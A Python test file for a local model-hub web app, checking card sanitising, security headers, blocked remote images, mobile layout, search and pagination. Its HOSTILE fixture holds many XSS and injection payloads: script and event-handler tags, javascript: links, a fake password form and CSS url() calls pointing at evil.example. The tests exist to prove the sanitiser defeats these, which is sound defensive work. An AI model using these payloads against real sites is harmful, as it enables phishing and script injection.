"""The pages, as text and in a real browser."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import httpx2
from huggingface_hub import CommitOperationAdd, HfApi

from hubtools.localhub.markup import render_card, render_readme
from hubtools.localhub.store import Store
from hubtools.localhub.types import RepoId

if TYPE_CHECKING:
    from playwright.sync_api import Browser

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763"
    "f8cfc000000301010018dd8db00000000049454e44ae426082"
)
HOSTILE = """---
tags: ["<script>alert('tag')</script>", '"><img src=x onerror=alert(1)>']
license: "<b onmouseover=alert(1)>"
base_model: "javascript:alert(1)"
---
# Title <script>document.title = 'owned'</script>

<img src="x" onerror="document.title='owned'"><svg onload="document.title='owned'"></svg>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o"></object>
<form action="http://evil.example/form"><input name="password"><button>Sign in</button></form>
<link rel="stylesheet" href="http://evil.example/style"><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/meta">
<style>body { background: url(http://evil.example/css) }</style>
<img src="http://evil.example/plain.png"> <img srcset="http://evil.example/set.png 2x">
<video src="http://evil.example/video" poster="http://evil.example/poster"></video>
<div style="background-image: url('http://evil.example/a')">a</div>
<div style="background: url(//evil.example/b)">b</div>
<div style="background-image: image-set('http://evil.example/c' 1x)">c</div>
<div style="background-image: u\\72l(http://evil.example/d)">d</div>
<div style="position: fixed; inset: 0; z-index: 9">over everything</div>
[one](javascript:document.title='owned') <a href="java&#10;script:alert(1)">two</a>
<a href="data:text/html,<script>alert(1)</script>">three</a> <a href="vbscript:x">four</a>
<a href="../../../-/style.css">out</a> <img src="data:image/svg+xml,<svg onload=alert(1)>">

<p id="main" class="skip-link bar" onclick="alert(1)">

```
{{ 7 * 7 }} </code></pre><script>alert(1)</script>
```
"""


def _model(api: HfApi, readme: str, name: str = "m") -> None:
    api.create_repo(f"me/{name}")
    files = [CommitOperationAdd("README.md", readme.encode())]
    files.append(CommitOperationAdd("predictions.png", PIXEL))
    api.create_commit(f"me/{name}", files, commit_message="<i>Upload</i>")


def test_a_hostile_card_does_nothing_in_a_browser(api: HfApi, url: str, browser: Browser) -> None:
    _model(api, HOSTILE)
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog:{dialog.message}"))
    paths = ("/", "/me/m", "/me/m/tree/main", "/me/m/commits/main", "/me/m/commit/main")
    for path in paths:
        page.goto(url + path, wait_until="load")
        assert "owned" not in page.title()
        for tag in ("script", "iframe", "object", "style", "meta[http-equiv]", "video", "base"):
            assert page.locator(f"main {tag}").count() == 0
    assert {urlsplit(address).netloc for address in asked} == {urlsplit(url).netloc}
    page.goto(f"{url}/me/m")
    for link in page.locator("main a[href]").all():
        assert urlsplit(link.evaluate("a => a.href")).scheme in ("http", "https")
    assert (
        page.locator(".readme [style*=position], .readme [onclick], .readme .skip-link").count()
        == 0
    )
    box = page.locator("header.bar").bounding_box()
    assert box is not None and box["y"] == 0
    page.close()


def test_pages_fit_a_phone(api: HfApi, url: str, browser: Browser) -> None:
    wide = (
        "| a | b |\n|---|---|\n| " + "x" * 300 + " | " + "y" * 300 + " |\n\n`" + "z" * 300 + "`\n"
    )
    _model(api, f"# {'W' * 200}\n\n{wide}\n![p](predictions.png)\n", "n" * 96)
    page = browser.new_page(viewport={"width": 360, "height": 700})
    for path in ("/", f"/me/{'n' * 96}", f"/me/{'n' * 96}/tree/main", "/nothing/here"):
        page.goto(url + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= 360
    page.close()


def test_keyboard_reaches_the_content_first(api: HfApi, url: str, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(url)
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to content"
    page.keyboard.press("Enter")
    assert page.url.endswith("#main")
    page.close()


def test_search_and_tags_find_models(api: HfApi, url: str) -> None:
    _model(api, "---\ntags: [harbour, 'a&b']\n---\n", "one")
    _model(api, "---\ntags: [sea]\n---\n", "two")
    assert found(url, "?q=HARB+one") == ["/me/one"]
    assert found(url, "?tag=a%26b") == ["/me/one"]
    assert found(url, "?q=nothing") == found(url, "?q=%25") == found(url, "?q=o_e") == []
    assert found(url, "?q=A%26B") == found(url, "?q=me/one") == ["/me/one"]
    assert found(url, "me") == ["/me/two", "/me/one"]
    assert found(url, "") == ["/me/two", "/me/one"]


def test_the_orders_of_the_gallery(api: HfApi, url: str, store: Store) -> None:
    for name in ("b", "C", "a"):
        store.create(RepoId("me", name), author="me")
    _model(api, "# Changed", "b2")
    api.upload_file(path_or_fileobj=b"x", path_in_repo="x.txt", repo_id="me/C")
    assert found(url, "") == ["/me/C", "/me/b2", "/me/a", "/me/b"]
    assert found(url, "?sort=created") == ["/me/b2", "/me/a", "/me/C", "/me/b"]
    assert found(url, "?sort=name") == ["/me/a", "/me/b", "/me/b2", "/me/C"]
    assert found(url, "?sort=nonsense") == found(url, "")


def test_the_gallery_pages(api: HfApi, url: str, store: Store) -> None:
    for n in range(30):
        store.create(RepoId("me", f"m{n}"), author="me")
    first = httpx2.get(f"{url}/?q=me")
    more = first.text.split('rel="next"')[0].rpartition('href="')[2].rstrip('" ')
    assert more == "/?q=me&amp;page=2"
    second = found(url, "?q=me&page=2")
    assert len(set(found(url, "?q=me") + second)) == 30
    assert "Page 9 " in httpx2.get(f"{url}/?page=9").text
    for nonsense in ("0", "-1", "x", "9" * 40, "²"):
        assert found(url, f"?page={nonsense}") == found(url, "")


def found(url: str, path: str) -> list[str]:
    """The models on a page of the gallery."""
    text = httpx2.get(f"{url}/{path}").text
    return [part.partition('"')[0] for part in text.split('<h2><a href="')[1:]]


def test_headers_of_a_page(api: HfApi, url: str) -> None:
    _model(api, "# Hello")
    headers = httpx2.get(f"{url}/me/m").headers
    policy = dict(part.split(" ", 1) for part in headers["Content-Security-Policy"].split("; "))
    assert (policy["default-src"], policy["script-src"]) == ("'none'", "'self'")
    assert policy["img-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
    assert "script-src" not in httpx2.get(url).headers["Content-Security-Policy"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"


def test_errors_are_pages_for_a_browser_only(url: str) -> None:
    page = httpx2.get(f"{url}/me/nothing", headers={"Accept": "text/html"})
    assert page.status_code == 404 and page.text.startswith("<!DOCTYPE html>")
    assert httpx2.get(f"{url}/me/nothing").json()["error"]
    assert httpx2.get(f"{url}/api/models/me/x", headers={"Accept": "text/html"}).json()["error"]


def test_relative_addresses_lead_to_the_files() -> None:
    html = render_readme(
        "![a](pics/a%20b.png) [b](./b.md#part) [c](#top) [d](../up) <img src='/x.png' width=3>\n"
        "[e](https://example.com/?a=b) [f](mailto:a@b.c) ![g](http://example.com/g.png)\n",
        "/me/m/resolve/main",
    )
    assert 'src="/me/m/resolve/main/pics/a%20b.png"' in html
    assert 'href="/me/m/resolve/main/b.md#part"' in html
    assert 'href="#card-top"' in html
    assert 'src="/x.png" width="3"' in html
    assert 'href="https://example.com/?a=b"' in html
    assert 'href="mailto:a@b.c"' in html
    assert "../up" not in html and "example.com/g.png" not in html


def test_what_a_card_may_style() -> None:
    def style(text: str) -> str:
        html = render_readme(f'<div style="{text}">x</div>', "/f")
        return html.partition('style="')[2].partition('"')[0]

    circle = "width:92px;height:92px;border-radius:50%;background-size:cover"
    assert style(circle) == circle
    avatar = "background-image: url(&#39;https://a.example/b.jpg?c=1&#39;)"
    assert "https://a.example/b.jpg?c=1" in style(avatar)
    for bad in (
        *("background-image: url(http://a/b)", "background-image: url(//a/b)", "position: fixed"),
        *("background-image: url(data:x)", "width: expression(1)", "background: u\\72l(//a)"),
        *("background-image: image-set('https://a' 1x)", "color: red; background-image: url(x"),
        *("background-image: url(https://a) , url(http://b)", "color: var(--x)", "content: 'x'"),
        "background-image: url/**/(//a)",
        "color: red; background-image: url(https://a/')",
    ):
        assert "a" not in style(bad).replace("color:red", "")


def test_headings_are_linked_to() -> None:
    html = render_readme("# How to use\n\n## How to use\n\n[there](#how-to-use)", "/f")
    assert html.count('id="card-how-to-use"') == 1
    assert 'href="#card-how-to-use"' in html


def test_pictures_of_other_hosts_are_text_until_they_are_loaded(api: HfApi, url: str) -> None:
    card = "![A ferry](https://pics.example/a.png)\n\n![gone](gone.png) ![here](predictions.png)\n"
    style = "<div style=\"width:9px;background-image:url('https://quay.example/b.png')\">x</div>\n"
    _model(api, card + style)
    page = httpx2.get(f"{url}/me/m")
    assert "pics.example/a.png" not in page.text and "quay.example/b.png" not in page.text
    assert "Pictures from pics.example, quay.example are" in page.text
    assert page.text.count('<span class="blocked-image') == 2  # the ferry, and the one that is gone
    assert 'src="/me/m/resolve/main/predictions.png"' in page.text
    loaded = httpx2.get(f"{url}/me/m?pictures=remote")
    assert 'src="https://pics.example/a.png"' in loaded.text
    assert "img-src 'self' https:;" in loaded.headers["Content-Security-Policy"]


def test_wide_things_scroll_by_keyboard_and_hostile_words_stay_words() -> None:
    text = '| a |\n|---|\n| <img alt="<table>" src="x.png"> |\n\n```\n<pre>\n```\n'
    html = render_card(text, "/f", remote=False, paths=["x.png"]).html
    assert (
        html.count('<div class="scroll" tabindex="0"><table>') == html.count("</table></div>") == 1
    )
    assert html.count("<pre tabindex=") == 1
    assert 'alt="<table>"' in html or 'alt="&lt;table&gt;"' in html


def test_the_picture_of_a_foreign_host_names_no_tag() -> None:
    html = render_card('<img alt="&quot;><b>x" src="https://a.example/x">', "/f", remote=False).html
    assert "<b>" not in html and "a.example" not in html
